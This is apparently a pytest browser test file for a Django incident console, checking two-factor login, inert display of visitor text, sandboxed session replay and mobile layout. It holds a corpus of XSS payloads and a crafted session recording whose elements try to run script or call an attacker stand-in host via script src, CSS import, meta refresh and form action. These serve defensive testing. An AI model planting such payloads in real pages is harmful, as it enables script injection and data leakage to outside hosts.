"""The console in a real Chromium: the code field shows, hostile text stays text, a replay asks nobody."""

import gzip
import hashlib
import json
import subprocess
from pathlib import Path

import pytest
from django.conf import settings as django_settings

from incidents.models import IncidentTransition, Recording, ServerEvent
from research.models import Proposal, ResearchRun, Source, SourceItem
from tests.console.conftest import PASSWORD, chromium, incident_make, report_make, token_of
from tests.standins.attacker import Attacker

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><details open ontoggle=alert(4)>",
    "javascript:alert(5)",
    "</textarea></pre></script><script>alert(6)</script>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'>",
    "<a href=javascript:alert(8) autofocus onfocus=alert(8)>x</a>",
    '<div x-data x-init="alert(9)">alpine</div>',
    "{{ 7*7 }}{% debug %}${alert(10)}",
    "<div hx-get=/console/ hx-trigger=load hx-on::load=alert(11)>htmx</div>",
    "\u202e\u0000<b onmouseover=alert(12)>",
]
HOSTILE = " ".join(CORPUS).replace("\x00", "")


def signed_in(page, owner, live_server):
    cookie = owner.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": cookie, "url": live_server.url}])


def test_the_login_shows_the_code_field_and_says_what_is_wrong(mia, live_server):
    code = token_of(mia.email, steps=1)  # drift allows the next one, and typing takes its time
    wrong = "000000" if code != "000000" else "111111"
    with chromium(live_server.url, width=360, height=740) as watched:
        page = watched.page
        page.goto("/console/incidents/incident/")
        field = page.get_by_label("Authentication code")
        assert field.is_visible()
        assert page.get_by_label("E-mail").is_visible()
        page.get_by_label("E-mail").fill(mia.email)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_label("Authentication code").fill(wrong)
        page.get_by_role("button", name="Log in").click()
        page.get_by_text("That code is not right").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "no sideways scrolling"

        page.wait_for_timeout(1100)  # the device's own brake: one second after the first wrong code
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_label("Authentication code").fill(code)
        page.get_by_role("button", name="Log in").click()
        page.wait_for_url("**/console/incidents/incident/")
    assert watched.errors == []


def hostile_rows(host):
    incident = incident_make(host, 1, title=HOSTILE[:200], route="/<script>alert(1)</script>")
    report = report_make(
        incident,
        text=HOSTILE,
        message=HOSTILE,
        requests=[{"method": "<script>alert(1)</script>", "path": HOSTILE, "status": 502}],
        trace_id="a" * 32,
    )
    ServerEvent.objects.create(
        host=host, event_id="e", trace_id="a" * 32, title=HOSTILE[:300], event={"value": HOSTILE}
    )
    IncidentTransition.objects.create(
        subject=incident,
        from_phase="detected",
        to_phase="diagnosing",
        reason=HOSTILE[:500],
        actor=HOSTILE[:120],
    )
    source = Source.objects.create(url="https://evil.example/feed", title=HOSTILE[:200])
    item = SourceItem.objects.create(
        source=source, url="https://evil.example/", url_key="k", title=HOSTILE[:200], summary=HOSTILE
    )
    proposal = Proposal.objects.create(
        run=ResearchRun.objects.create(date="2026-11-22"),
        item=item,
        title=HOSTILE[:200],
        summary=HOSTILE,
        evidence=[{"kind": "article", "title": HOSTILE, "url": "javascript:alert(1)"}],
        scores={"impact": {"value": 1, "weight": 50, "why": HOSTILE}},
        score=50,
    )
    return incident, report, proposal


def evidence_is_marked(page, incident):
    page.goto(f"/console/incident/{incident.pk}/")
    report = page.locator("details.k-piece", has_text="Report 1")
    assert report.get_attribute("open") is None, "what a visitor wrote is folded away"
    assert "untrusted" in report.locator("summary").inner_text()
    assert "is-untrusted" in report.get_attribute("class")
    assert "measured by us" in page.locator("details.k-piece", has_text="What we know").inner_text()


def test_whatever_visitors_wrote_stays_text_and_is_marked(owner, host, live_server):
    incident, _, proposal = hostile_rows(host)
    pages = [
        "/console/",
        f"/console/incident/{incident.pk}/",
        f"/console/act/dismiss/{incident.pk}/",
        "/console/incidents/incident/",
        "/console/research/proposal/",
        f"/console/research/proposal/{proposal.pk}/change/",
        "/console/research/sourceitem/",
    ]
    with chromium(live_server.url) as watched:
        page = watched.page
        signed_in(page, owner, live_server)
        for path in pages:
            answer = page.goto(path)
            assert answer.status == 200, path
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.evaluate("document.querySelectorAll('*').forEach(e => { e.focus?.(); })")
            page.wait_for_function("window.Alpine !== undefined")  # what could run planted markup is there
            assert "<script>alert(1)</script>" in page.inner_text("body"), f"{path} must show it as text"
            planted = page.eval_on_selector_all(
                "#content [onerror], #content [onload], #content [x-init='alert(9)'], "
                "#content [hx-get='/console/'], #content a[href^=javascript], #content script",
                "found => found.map(one => one.outerHTML).filter(html => !html.includes('/static/admin/'))"
                ".filter(html => html.includes('alert(') || !html.startsWith('<script'))",
            )
            assert planted == [], path
        evidence_is_marked(page, incident)
    assert watched.dialogs == []
    assert watched.foreign == []


@pytest.fixture(scope="module")
def player():
    """The built player, as `make build` makes it."""
    built = Path(django_settings.BASE_DIR) / "console/static/console/dist/replay.js"
    if not built.exists():
        subprocess.run(
            ["make", str(built.relative_to(django_settings.BASE_DIR))],
            check=True,
            cwd=django_settings.BASE_DIR,
        )
    return built


def element(ident, tag, attributes=None, children=()):
    return {
        "type": 2,
        "tagName": tag,
        "attributes": attributes or {},
        "childNodes": list(children),
        "id": ident,
    }


def text(ident, content, **extra):
    return {"type": 3, "textContent": content, "id": ident, **extra}


def recording(attacker):
    """What a hostile browser could send: fifteen ways to run something or to phone home."""
    bad = f"{attacker}/hit"
    body = [
        element(20, "h1", {}, [text(21, "The studio as Alice saw it")]),
        element(22, "script", {"src": f"{bad}-script"}, [text(23, "parent.owned=1;alert(1)")]),
        element(24, "svg", {}, [element(25, "script", {}, [text(26, "parent.owned=1")])]),
        element(27, "img", {"src": f"{bad}-img", "onerror": "parent.owned=1;alert(2)"}),
        element(28, "iframe", {"src": "javascript:parent.parent.owned=1"}),
        element(29, "iframe", {"srcdoc": "<script>parent.parent.owned=1</script>"}),
        element(30, "iframe", {"src": f"{bad}-iframe"}),
        element(31, "object", {"data": f"{bad}-object"}),
        element(32, "video", {"src": f"{bad}-video", "poster": f"{bad}-poster", "autoplay": True}),
        element(33, "input", {"autofocus": True, "onfocus": "parent.owned=1"}),
        element(34, "div", {"style": f"background:url({bad}-css)"}),
        element(35, "form", {"action": f"{bad}-form"}, [element(36, "button", {}, [text(37, "x")])]),
        element(38, "a", {"href": "javascript:parent.owned=1", "ping": f"{bad}-ping"}, [text(39, "link")]),
    ]
    head = [
        element(10, "base", {"href": attacker}),
        element(11, "meta", {"http-equiv": "refresh", "content": f"0;url={bad}-refresh"}),
        element(12, "link", {"rel": "stylesheet", "href": f"{bad}-link"}),
        element(13, "link", {"rel": "prefetch", "href": f"{bad}-prefetch"}),
        element(
            14,
            "style",
            {},
            [text(15, f"@import url({bad}-import); body{{background:url({bad}-bg)}}", isStyle=True)],
        ),
    ]
    page = element(3, "html", {}, [element(4, "head", {}, head), element(5, "body", {}, body)])
    document = {"type": 0, "childNodes": [page], "id": 1}
    image = element(50, "img", {"src": f"{bad}-mutation", "onerror": "parent.owned=1;alert(3)"})
    mutation = {
        "source": 0,
        "texts": [],
        "attributes": [],
        "removes": [],
        "adds": [{"parentId": 5, "nextId": None, "node": image}],
    }
    start = 1_763_800_000_000
    return [
        {"type": 4, "data": {"href": attacker, "width": 800, "height": 600}, "timestamp": start},
        {
            "type": 2,
            "data": {"node": document, "initialOffset": {"left": 0, "top": 0}},
            "timestamp": start + 1,
        },
        {"type": 3, "data": mutation, "timestamp": start + 300},
        {"type": 3, "data": {"source": 3, "id": 1, "x": 0, "y": 0}, "timestamp": start + 900},
    ]


def chunk(report, seq, content, last=True):
    blob = gzip.compress(content)
    Recording.objects.create(
        report=report, seq=seq, last=last, sha256=hashlib.sha256(blob).hexdigest(), blob=blob
    )


def test_a_hostile_recording_plays_and_reaches_nobody(owner, host, live_server, player):
    incident = incident_make(host, 1)
    report = report_make(incident)
    with Attacker() as attacker:
        events = recording(attacker.url)
        chunk(report, 0, json.dumps(events[:2]).encode(), last=False)
        chunk(report, 1, json.dumps(events[2:]).encode())
        with chromium(live_server.url) as watched:
            page = watched.page
            signed_in(page, owner, live_server)
            page.goto(f"/console/incident/{incident.pk}/")
            page.locator("iframe.k-replay").scroll_into_view_if_needed()
            frame = page.frame_locator("iframe.k-replay")
            frame.locator("html[data-replay=ready]").wait_for()
            seen = frame.frame_locator("#replay iframe")
            assert seen.locator("h1").inner_text() == "The studio as Alice saw it"
            frame.get_by_role("button", name="Play").click()
            seen.locator("img").nth(1).wait_for(state="attached")  # the mutation has been played
            frame.get_by_role("button", name="Play").wait_for()
            replay = next(f for f in page.frames if "/console/replay/" in f.url)
            assert replay.evaluate("window.owned") is None
            assert page.evaluate("window.owned") is None
            assert frame.locator("#replay iframe").get_attribute("sandbox") == "allow-same-origin"
        assert watched.dialogs == []
    assert attacker.hits == []


def test_the_attacker_standin_would_notice(live_server):
    """The check above can fail: a page without our policy does reach it."""
    with Attacker() as attacker, chromium(live_server.url) as watched:
        watched.page.goto("/healthz")
        watched.page.set_content(f"<img src='{attacker.url}/hit-img'>")
        watched.page.wait_for_load_state("networkidle")
    assert attacker.hits == ["/hit-img"]


BROKEN = {b"[]": "fewer than two events", b"{}": "not a list of events", b"[{]": "can't be shown"}


def test_a_recording_that_is_none_says_so(owner, host, live_server, player):
    incident = incident_make(host, 1)
    reports = {}
    for content, says in BROKEN.items():
        report = report_make(incident)
        chunk(report, 0, content)
        reports[report.pk] = says
    with chromium(live_server.url) as watched:
        page = watched.page
        signed_in(page, owner, live_server)
        for report_id, says in reports.items():
            page.goto(f"/console/replay/{report_id}/")
            page.locator("html[data-replay=failed]").wait_for()
            assert says in page.get_by_role("status").inner_text()


def test_home_and_incident_fit_the_screen(owner, host, live_server):
    incident = incident_make(
        host, 1, title="A very long title " * 11, route="/a/very/long/route/" + "x" * 120
    )
    with chromium(live_server.url) as watched:
        page = watched.page
        signed_in(page, owner, live_server)
        for path in ("/console/", f"/console/incident/{incident.pk}/", "/console/act/kill_all/all/"):
            page.goto(path)
            for width in (320, 400, 1280):
                page.set_viewport_size({"width": width, "height": 740})
                assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{path} {width}"
    assert watched.errors == []
